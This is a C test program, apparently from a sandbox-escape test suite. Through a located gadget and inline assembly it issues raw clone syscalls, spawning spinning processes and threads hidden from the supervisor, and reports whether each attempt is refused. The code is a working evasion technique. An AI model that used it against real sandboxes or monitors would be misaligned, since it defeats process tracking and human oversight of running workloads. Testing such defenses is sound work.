/*
 * Processes and threads that the kernel does not know: made with the stub's clone words directly.
 * They spin, so that nothing but SIGKILL ends them. Argument: fork, thread, or both.
 */
#include "attack.h"

static char stacks[8][65536] __attribute__((aligned(64)));

static void spin(void) {
  for (;;) __asm__ volatile("pause");
}

/* Parent and child both come out of the gadget by `frame`, on the parent's stack; the child touches
 * none of it. */
static void hidden_thread(int i) {
  register long r10 __asm__("r10") = (long)&slot_at(100 + i)->exited;
  register long r8 __asm__("r8") = 0;
  uint64_t frame[4] = {0};
  long rc;
  __asm__ volatile(
      "push %%rbx\n\t"
      "push %%rbp\n\t"
      "mov %%rsp, %%r13\n\t"
      "lea 2f(%%rip), %%rcx\n\t"
      "mov %%rcx, 16(%[frame])\n\t"
      "lea 8(%[frame]), %%rbp\n\t"
      "jmp *%[gadget]\n"
      "2:\n\t"
      "test %%rax, %%rax\n\t"
      "jnz 3f\n"
      "4: pause\n\t"
      "jmp 4b\n"
      "3:\n\t"
      "mov %%r13, %%rsp\n\t"
      "pop %%rbp\n\t"
      "pop %%rbx\n\t"
      : "=a"(rc), "+r"(r10), "+r"(r8)
      : "a"((long)SYS_clone), "D"((long)THREAD_WORD), "S"((long)stacks[i] + 65280), "d"(0l),
        [gadget] "r"(gadget), [frame] "r"(frame)
      : "rcx", "r11", "r12", "r13", "memory");
  printf("thread %s\n", rc > 0 ? "made" : "refused");
}

int main(int argc, char **argv) {
  (void)argc;
  find_gadget();
  const char *what = argv[1];
  if (strcmp(what, "thread") != 0)
    for (int i = 0; i < 3; i++) {
      long pid = stub_call(SYS_clone, FORK_WORD, 0, 0, 0, 0, 0);
      if (pid == 0) spin();
      printf("fork %s\n", pid > 0 ? "made" : "refused");
    }
  if (strcmp(what, "fork") != 0)
    for (int i = 0; i < 3; i++) hidden_thread(i);
  puts("ready");
  fflush(stdout);
  if (argc > 2) return 0;
  spin();
}
